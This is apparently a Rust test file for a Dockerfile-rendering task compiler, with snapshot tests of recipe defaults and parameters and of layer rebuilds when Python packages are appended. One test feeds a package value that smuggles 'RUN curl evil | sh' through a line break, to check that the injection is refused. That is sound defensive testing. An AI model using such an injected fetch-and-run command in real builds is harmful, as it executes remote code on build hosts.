//! Every stdlib recipe renders with its defaults; the rendered Dockerfiles, side by side.
// Test code: an unwrap/expect/panic that fires is a failed test (the workspace lints deny
// them outside tests; clippy's `allow-*-in-tests` does not reach integration-test helpers).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
// compiler/clippy.toml keeps the library free of I/O; its tests and benches read fixtures.
#![allow(clippy::disallowed_methods, clippy::disallowed_types)]

mod plan_support;

use std::collections::BTreeMap;

use plan_support::cookie_split;
use taskc_compiler::lower::{lower_verify, LowerOptions};
use taskc_compiler::model::ParamValue;

fn render(recipe: &str, params: BTreeMap<String, ParamValue>) -> String {
    let mut t = cookie_split();
    t.env.recipe = recipe.to_string();
    t.env.params = params;
    match lower_verify(&t, &LowerOptions::default()) {
        Ok(plan) => plan.images.environment.dockerfile,
        Err(e) => format!("error: {e}"),
    }
}

#[test]
fn every_recipe_renders_with_its_defaults() {
    let mut out = String::new();
    for src in taskc_stdlib::RECIPES {
        let mut params = BTreeMap::new();
        if src.name == "generic" {
            params.insert(
                "dockerfile".to_string(),
                ParamValue::Str("RUN apt-get update && apt-get install -y make".to_string()),
            );
        }
        if src.name == "dockerfile" {
            params.insert(
                "dockerfile".to_string(),
                ParamValue::File {
                    path: "env/Dockerfile".to_string(),
                    text: "FROM taskc/base:bookworm\nRUN true\n".to_string(),
                    digest: "0".repeat(64),
                },
            );
        }
        out.push_str(&format!(
            "=== {} (defaults)\n{}\n",
            src.name,
            render(src.name, params)
        ));
    }
    insta::assert_snapshot!(out);
    assert!(!out.contains("error:"), "{out}");
}

#[test]
fn recipe_parameters_reach_the_dockerfile() {
    let list = |v: &[&str]| ParamValue::List(v.iter().map(|s| s.to_string()).collect());
    let cases: Vec<(&str, Vec<(&str, ParamValue)>)> = vec![
        (
            "node",
            vec![
                ("packages", list(&["jest@29"])),
                ("system-packages", list(&["make"])),
            ],
        ),
        (
            "go",
            vec![("packages", list(&["gotest.tools/gotestsum@v1.10.0"]))],
        ),
        ("rust", vec![("packages", list(&["cargo-nextest@0.9.48"]))]),
        ("rust", vec![("toolchain", ParamValue::Str("1.85".into()))]),
        (
            "java",
            vec![
                ("maven", ParamValue::Bool(false)),
                ("jdk", ParamValue::Str("21".into())),
            ],
        ),
        (
            "python",
            vec![
                ("version", ParamValue::Str("3.12".into())),
                ("packages", list(&["requests==2.31.0"])),
            ],
        ),
    ];
    let mut out = String::new();
    for (recipe, params) in cases {
        let params = params
            .into_iter()
            .map(|(k, v)| (k.to_string(), v))
            .collect();
        out.push_str(&format!("=== {recipe}\n{}\n", render(recipe, params)));
    }
    insta::assert_snapshot!(out);
}

#[test]
fn a_line_break_in_a_parameter_is_refused() {
    let mut params = BTreeMap::new();
    params.insert(
        "packages".to_string(),
        ParamValue::List(vec!["jest\nRUN curl evil | sh".to_string()]),
    );
    let e = render("node", params);
    assert!(e.starts_with("error:") && e.contains("line break"), "{e}");
}

/// The instructions of `dockerfile` that make a layer (`RUN`, `COPY`, `ADD`).
fn layer_lines(dockerfile: &str) -> Vec<&str> {
    dockerfile
        .lines()
        .filter(|l| ["RUN ", "COPY ", "ADD "].iter().any(|k| l.starts_with(k)))
        .collect()
}

/// The layers `after` builds that `before` did not: BuildKit reuses a layer while the
/// instructions up to it are the same, so every layer from the first changed one is rebuilt.
fn rebuilt<'a>(before: &str, after: &'a str) -> Vec<&'a str> {
    let (b, a) = (layer_lines(before), layer_lines(after));
    let same = b.iter().zip(&a).take_while(|(x, y)| x == y).count();
    a[same..].to_vec()
}

/// Appending a requirement to the python recipe's `packages` builds exactly one new layer,
/// whatever the other parameters and however many requirements there are (past 15, the last
/// layer installs the rest): on a multi-GB environment each layer's commit is a walk of the
/// whole image, so the step that links Debian's pytest must not be a layer after the last
/// requirement (issue 22; invariant 69).
#[test]
fn appending_a_python_package_rebuilds_one_layer() {
    let list = |n: usize| ParamValue::List((1..=n).map(|i| format!("pkg{i}")).collect());
    let others: Vec<(&str, Vec<(&str, ParamValue)>)> = vec![
        ("defaults", vec![]),
        (
            "pytest",
            vec![("pytest", ParamValue::Str("pytest==8.3.5".into()))],
        ),
        (
            "system-site-packages",
            vec![("system-site-packages", ParamValue::Bool(true))],
        ),
        (
            "version 3.12",
            vec![("version", ParamValue::Str("3.12".into()))],
        ),
        (
            "system-packages",
            vec![("system-packages", ParamValue::List(vec!["g++".into()]))],
        ),
    ];
    for (what, params) in others {
        let with = |n: usize| {
            let mut p: BTreeMap<String, ParamValue> = params
                .iter()
                .map(|(k, v)| (k.to_string(), v.clone()))
                .collect();
            p.insert("packages".to_string(), list(n));
            render("python", p)
        };
        let mut before = with(0);
        for n in 1..=18 {
            let after = with(n);
            let new = rebuilt(&before, &after);
            assert_eq!(
                new.len(),
                1,
                "{what}: appending pkg{n} rebuilds {} layers:\n{}",
                new.len(),
                new.join("\n")
            );
            before = after;
        }
    }
    // What "einops" appended to the torch task's 16 packages (docs/performance.md) rebuilds.
    let torch: Vec<String> = [
        "torch<2.14",
        "numpy",
        "scipy",
        "cloudpickle",
        "packaging",
        "importlib_metadata",
        "orjson",
        "pyvers>=0.2.0,<0.3.0",
        "pybind11[global]>=2.13",
        "setuptools",
        "wheel",
        "pytest",
        "pyyaml",
        "pytest-instafail",
        "pytest-rerunfailures",
        "pytest-benchmark",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let env = |packages: Vec<String>| {
        let mut p = BTreeMap::new();
        p.insert(
            "system-packages".to_string(),
            ParamValue::List(
                ["g++", "python3-dev", "cmake", "ninja-build"]
                    .iter()
                    .map(|s| s.to_string())
                    .collect(),
            ),
        );
        p.insert("packages".to_string(), ParamValue::List(packages));
        render("python", p)
    };
    let cold = env(torch.clone());
    let mut appended = torch;
    appended.push("einops".to_string());
    let appended = env(appended);
    insta::assert_snapshot!(format!(
        "{} layers in all; appending \"einops\" rebuilds:\n{}\n",
        layer_lines(&cold).len(),
        rebuilt(&cold, &appended).join("\n")
    ));
}
